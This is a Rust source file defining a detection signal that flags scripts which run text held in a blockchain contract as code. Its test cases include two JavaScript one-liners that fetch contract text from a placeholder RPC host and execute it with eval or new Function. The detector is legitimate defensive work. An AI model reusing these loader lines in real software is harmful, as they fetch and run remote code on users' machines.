//! `chain-text-run`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "chain-text-run",
    description: "The script runs text that a blockchain contract holds as code.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ChainCall, Atom::ChainRead]), one(&[Atom::ValueRun])],
    within: 40,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var w=new Web3('https://rpc.example');new w.eth.Contract(abi,'0x00').methods.text().call().then(function(t){eval(t)})",
            "const p=new ethers.providers.JsonRpcProvider('https://rpc.example/');new ethers.Contract(a,abi,p).text().then(t=>new Function(t)())",
        ],
        without: &[
            "var w=new Web3('https://rpc.example');new w.eth.Contract(abi,'0x00').methods.balanceOf(a).call().then(function(t){show(t)})",
            "list.methods.call();function f(t){return eval(t)}",
        ],
    },
};
